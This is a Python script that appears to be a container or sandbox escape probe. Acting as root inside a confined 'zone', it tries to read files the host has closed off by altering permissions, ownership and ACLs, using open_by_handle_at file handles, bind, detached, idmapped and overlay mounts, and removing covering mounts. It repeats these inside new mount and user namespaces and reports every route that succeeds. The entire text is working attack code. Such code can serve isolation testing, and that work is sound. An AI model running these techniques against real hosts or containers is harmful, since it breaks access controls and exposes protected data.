# Tries, as the zone's root, to read what the host has closed to others, by every way that an owner or a root has.
# Words: the inherited directory, then the closed files and directories in it. Prints each way that has led in.
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
top, closed = sys.argv[1], sys.argv[2:]
AT_FDCWD, EMPTY_PATH, RECURSIVE = -100, 0x1000, 0x8000
BIND, REC, REMOUNT, DETACH = 4096, 16384, 32, 2
OPEN_TREE, MOVE_MOUNT, MOUNT_SETATTR, NAME, BY_HANDLE = 428, 429, 442, 303, 304
found = []

def content(path):
    if os.path.isdir(path):
        return bool(os.listdir(path)) or True
    with open(path, 'rb') as file:
        return file.read(1) or True

def through_fd(path):
    fd = os.open(path, os.O_PATH)
    return content('/proc/self/fd/%d' % fd)

def chmod(path):
    os.chmod(path, 0o777)
    return content(path)

def chown(path):
    os.chown(path, 0, 0)
    return content(path)

def acl(path):
    os.setxattr(path, 'system.posix_acl_access', bytes.fromhex('0200000001000700ffffffff04000700ffffffff20000700ffffffff'))
    return content(path)

def noatime(path):
    return os.read(os.open(path, os.O_RDONLY | os.O_NOATIME), 1)

def handle(path):
    class Handle(ctypes.Structure):
        _fields_ = [('size', ctypes.c_uint), ('kind', ctypes.c_int), ('bytes', ctypes.c_ubyte * 128)]
    wanted, mount = Handle(128), ctypes.c_int()
    if libc.syscall(NAME, AT_FDCWD, path.encode(), ctypes.byref(wanted), ctypes.byref(mount), 0) < 0:
        raise OSError(ctypes.get_errno(), 'name')
    for base in (top, '/', os.path.join(top, 'program')):
        fd = libc.syscall(BY_HANDLE, os.open(base, os.O_RDONLY), ctypes.byref(wanted), os.O_RDONLY)
        if fd >= 0:
            return content('/proc/self/fd/%d' % fd)
    raise OSError(ctypes.get_errno(), 'handle')

def mounted(path, flags):
    os.makedirs('/var/tmp/m', exist_ok=True)
    if libc.mount(top.encode(), b'/var/tmp/m', None, flags, None) < 0:
        raise OSError(ctypes.get_errno(), 'mount')
    try:
        return content('/var/tmp/m' + path[len(top):])
    finally:
        libc.umount2(b'/var/tmp/m', DETACH)

def detached(path):
    for flags in (1, 1 | RECURSIVE):
        fd = libc.syscall(OPEN_TREE, AT_FDCWD, top.encode(), flags)
        if fd >= 0:
            try:
                return content('/proc/self/fd/%d' % fd + path[len(top):])
            except OSError:
                pass
    raise OSError(1, 'open_tree')

def mapped(path):
    # The zone's own map, once more.
    users = os.open('/proc/self/ns/user', os.O_RDONLY)
    for flags in (1, 1 | RECURSIVE):
        fd = libc.syscall(OPEN_TREE, AT_FDCWD, top.encode(), flags)
        attr = (ctypes.c_ulonglong * 4)(0x100000, 0, 0, users)
        if fd >= 0 and libc.syscall(MOUNT_SETATTR, fd, b'', EMPTY_PATH, ctypes.byref(attr), 32) == 0:
            return content('/proc/self/fd/%d' % fd + path[len(top):])
    raise OSError(1, 'mount_setattr')

def uncovered(path):
    # Whatever lies over it is taken away, in a copy of the mounts as well.
    for there in (path, top):
        libc.umount2(there.encode(), DETACH)
    return content(path)

def overlay(path):
    os.makedirs('/var/tmp/m', exist_ok=True)
    if libc.mount(b'overlay', b'/var/tmp/m', b'overlay', 0, ('lowerdir=%s:/etc' % top).encode()) < 0:
        raise OSError(ctypes.get_errno(), 'overlay')
    try:
        return content('/var/tmp/m' + path[len(top):])
    finally:
        libc.umount2(b'/var/tmp/m', DETACH)

WAYS = [('open', content), ('descriptor', through_fd), ('chmod', chmod), ('chown', chown), ('acl', acl),
        ('noatime', noatime), ('handle', handle), ('bind', lambda p: mounted(p, BIND)),
        ('rbind', lambda p: mounted(p, BIND | REC)), ('detached', detached), ('mapped', mapped),
        ('overlay', overlay), ('uncovered', uncovered)]

def attack(where):
    for path in closed:
        for name, way in WAYS:
            try:
                way(path)
                print(where, name, path, flush=True)
            except OSError:
                pass

def within(where, flags):
    pid = os.fork()
    if pid == 0:
        if libc.unshare(flags) == 0:
            for file, text in (('setgroups', 'deny'), ('uid_map', '0 0 1'), ('gid_map', '0 0 1')):
                try:
                    open('/proc/self/' + file, 'w').write(text)
                except OSError:
                    pass
            attack(where)
        os._exit(0)
    os.waitpid(pid, 0)

attack('root')
within('mounts', 0x20000)
within('users', 0x10000000 | 0x20000)
print('end')
